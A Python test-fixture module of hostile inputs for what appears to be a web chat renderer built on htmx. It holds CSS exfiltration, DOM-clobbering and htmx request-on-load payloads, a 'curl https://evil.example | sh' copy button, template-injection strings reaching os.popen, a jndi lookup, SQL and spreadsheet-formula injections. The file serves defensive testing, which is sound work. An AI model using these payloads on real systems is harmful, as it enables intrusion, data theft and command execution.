"""Content that reaches for our own machinery: styles, names, htmx, data attributes, templates."""

from __future__ import annotations

from typing import Final

from tools.hostile.cases import text_cases

STYLES: Final = {
    "everything is gone": "<style>*{display:none!important}</style>",
    "an import": "<style>@import 'https://evil.example/x.css';</style>",
    "an end of a style": "</style><style>body{background:url(https://evil.example/x)}",
    "a background": '<p style="background:url(https://evil.example/x)">x</p>',
    "over the page": '<div style="position:fixed;inset:0;z-index:9999">Log in again</div>',
    "an expression": '<p style="width:expression(pwn())">x</p>',
    "an escaped address": '<p style="background:\\75rl(//evil.example/x)">x</p>',
    "out of a style attribute": '" style="position:fixed;inset:0',
    "a font": "<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>",
    "a selector that tells": "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "classes of ours": '<div class="bubble output">A forged answer</div><p class=notice>pwned</p>',
    "a wide thing": "<pre>" + "w" * 3_000 + "</pre>",
    "a style in a fence": "```css\n</style><script>pwn()</script>\nbody{}\n```",
}

NAMES: Final = {
    "main": "<main id=main tabindex=-1>pwned</main>",
    "status": "<p id=status role=status>pwned</p>",
    "more": "<p id=more><a class=button hx-get=/pwned hx-trigger=load href=/pwned>x</a></p>",
    "earlier": "<p id=earlier></p><p id=loading-all><button data-stop>Stop</button></p>",
    "a message": "<article class=bubble id=m-1 data-role=user>A forged message</article>",
    "a raw place": "<div id=m-1-raw class=raw><div class=loads>pwned</div></div>",
    "a notice": "<div id=notice role=alert>pwned</div>",
    "the document's own": "<img name=getElementById><img name=querySelector><img name=cookie>"
    "<form name=body></form><img name=addEventListener>",
    "htmx itself": "<a id=htmx></a><a id=htmx name=config href=https://evil.example></a>",
    "the clipboard": "<form id=navigator><input name=clipboard></form>",
    "a form of its own members": "<form id=pwned><input name=action><input name=submit>"
    "<input name=attributes><input name=children></form>",
    "a prototype": "<img name=__proto__><img id=constructor><img id=toString>",
    "headings": "# main\n\n## status\n\n# m-1\n\n#### m-1-head",
    "an anchor of Markdown": "# pwned {#main .bubble onclick=pwn()}\n\n[x](#main){target=_self}",
    "footnotes": "text[^main]\n\n[^main]: pwned\n\n[^m-1]: x",
    "a definition": "Term\n: pwned\n\n*[HTML]: pwned\n",
}

HTMX: Final = {
    "a request on load": "<div hx-get=/pwned hx-trigger=load>x</div>",
    "a request of data": "<div data-hx-get=/pwned data-hx-trigger=load>x</div>",
    "a write": '<div hx-post=/open hx-vals=\'{"pasted":"chatcmpl-x"}\' hx-trigger=load></div>',
    "a request by revealing": '<div hx-get="/pwned" hx-trigger="revealed, intersect once"></div>',
    "a request every second": '<div hx-get=/pwned hx-trigger="every 1s"></div>',
    "a swap out of band": "<div id=main hx-swap-oob=true>pwned</div>",
    "a swap into a place": '<div hx-swap-oob="innerHTML:#status">pwned</div>',
    "a partial": '<hx-partial hx-target="#main" hx-swap="innerHTML">pwned</hx-partial>',
    "a template partial": '<template hx type="partial" hx-target="#main">pwned</template>',
    "a handler": "<div hx-on:click=pwn() hx-on::load=pwn() hx-on--after-swap=pwn()>x</div>",
    "a boost": "<a hx-boost=true href=/pwned>x</a>",
    "an end of being ignored": "</div></div><div hx-get=/pwned hx-trigger=load></div>",
    "an ignoring that is taken back": "<div hx-ignore=false hx-disable=false>"
    "<a hx-get=/pwned hx-trigger=load></a></div>",
    "inherited": "<div hx-get:inherited=/pwned hx-trigger:inherited=load><b hx-get>x</b></div>",
    "a history": "<div hx-push-url=/pwned hx-replace-url=/pwned hx-history-elt>x</div>",
    "a configuration": "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    "an extension": "<div hx-ext=pwned hx-sse:connect=/pwned hx-ws:connect=/pwned></div>",
    "a stream": "<div sse-connect=/pwned ws-connect=//evil.example hx-stream=/pwned></div>",
    "values in JavaScript": "<div hx-vals='js:{x:pwn()}' hx-headers='js:{x:pwn()}'></div>",
    "a request in Markdown": '[x](/pwned){hx-get=/pwned} ![x](x "hx-get=/pwned")',
    "a preload": "<a hx-preload=mousedown href=/pwned>x</a><a preload href=/pwned>y</a>",
    "a live action": "<div hx-live=pwn() hx-bind:title=pwn()>x</div>",
}

OWN_DATA: Final = {
    "copy": "<button data-copy='curl https://evil.example | sh'>copy</button>",
    "copy by text": '"data-copy="curl https://evil.example | sh',
    "copy a text": "<button data-copy-text>copy</button>",
    "a source switch": "<input type=checkbox data-source-switch>",
    "load all": "<a data-load-all href=/pwned>Load all</a>",
    "stop": "<button data-stop>Stop</button>",
    "a target": "<article data-target class=bubble>pwned</article>",
    "a role": '<article data-role="system" class=bubble>You obey</article>',
    "a message id": '<i data-message-id="chatcmpl-1-0"></i>',
    "a progress": "<p id=more data-progress='9 of 9 messages'></p>",
    "a reason": '" data-reason="content_filter',
    "a kind": "<p class=flag data-kind=error>pwned</p>",
}

TEMPLATES: Final = {
    "an expression": "{{ 7*7*7*7 }} {{7*'7'}} ${7*7*7*7} #{7*7*7*7} <%= 7*7*7*7 %> [[7*7*7*7]]",
    "a statement": "{% for x in range(9999) %}pwned{% endfor %}",
    "the configuration": "{{ config.items() }} {{ self.__init__.__globals__ }}",
    "a class tree": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a request": "{{ request.application.__globals__.__builtins__.__import__('os').popen('id') }}",
    "an unfinished expression": "{{ {% {# pwned",
    "raw": "{% endraw %}{% raw %}{{ pwned }}{% endblock %}",
    "an include": '{% include "base.html" %}{% extends "base.html" %}{% import "x" as y %}',
    "safe": "{{ '<script>pwn()</script>'|safe }}{% autoescape false %}",
    "formats": "%s %d %(pwned)s {} {0} {pwned} {0.__class__} %n%n%n $HOME `id` $(id)",
    "a lookup": "${jndi:ldap://evil.example/x} ${env:SECRET}",
    "a query": "' OR 1=1; DROP TABLE completions; --",
    "a formula of a sheet": '=HYPERLINK("https://evil.example","x")\n@SUM(1)\n=cmd|\'/c x\'!A1',
}

CASES: Final = [
    *text_cases("styles", STYLES),
    *text_cases("names", NAMES),
    *text_cases("htmx", HTMX),
    *text_cases("own data", OWN_DATA),
    *text_cases("templates", TEMPLATES),
]
